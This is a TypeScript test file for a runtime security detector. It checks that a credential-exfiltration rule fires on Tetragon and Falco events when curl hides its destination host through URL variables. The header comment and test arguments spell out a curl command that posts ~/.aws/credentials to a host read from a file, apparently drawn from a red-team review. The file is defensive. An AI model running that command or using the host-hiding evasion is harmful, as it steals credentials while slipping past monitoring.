/**
 * curl's URL variables (red-team review): `curl --variable H@/tmp/h --expand-url 'https://{{H}}/gists' -d @creds`
 * (curl ≥ 8.3; `--variable %H` takes the host from the environment) names no host in argv, and raised nothing. A
 * curl upload whose URL hides its host is judged on where it connected, as a cut curl's is: an address DNS classes
 * as a forge's makes it a push; an unclassed one (a log collector) none, and a GET is none wherever it goes.
 */
import { describe, expect, it } from 'vitest';
import { brief, runResolved, Scenario } from './builder.js';

const CREDS = '/home/dev/.aws/credentials';
const API_GITHUB_IP = '140.82.112.5';
const LOGS_IP = '203.0.113.40';

async function alertsOf(args: string, ip: string, source: 'tetragon' | 'falco') {
  const s = new Scenario({ source });
  const c = s.container({ namespace: 'ci', pod: 'job-7', name: 'job' });
  const sh = s.init(c);
  const curl = s.exec(c, '/usr/bin/curl', args, { parent: sh });
  s.wait(2).read(curl, '/tmp/h', 15).read(curl, CREDS, 116);
  s.wait(5).connect(curl, ip, 443).wait(20).send(curl, ip, 443, 2_048);
  s.wait(300).exit(curl);
  return brief((await runResolved(s.events)).alerts);
}

describe("curl's URL variables", () => {
  for (const source of ['tetragon', 'falco'] as const) {
    it(`a credential posted to a host read from a file is high when it reaches a forge (${source})`, async () => {
      const args = `--variable H@/tmp/h --expand-url https://{{H}}/gists -d @${CREDS}`;
      expect(await alertsOf(args, API_GITHUB_IP, source)).toEqual([
        { rule: 'sensitive-read-then-push', severity: 'high', tool: 'curl', destination: `${API_GITHUB_IP}:443` },
      ]);
    });

    it(`the same to an unclassed host, and a GET to a forge, are quiet (${source})`, async () => {
      const args = `--variable H@/tmp/h --expand-url https://{{H}}/v1/logs -d @${CREDS}`;
      expect(await alertsOf(args, LOGS_IP, source)).toEqual([]);
      expect(await alertsOf('--variable %H --expand-url https://{{H}}/repos/acme/app', API_GITHUB_IP, source)).toEqual(
        [],
      );
    });
  }
});
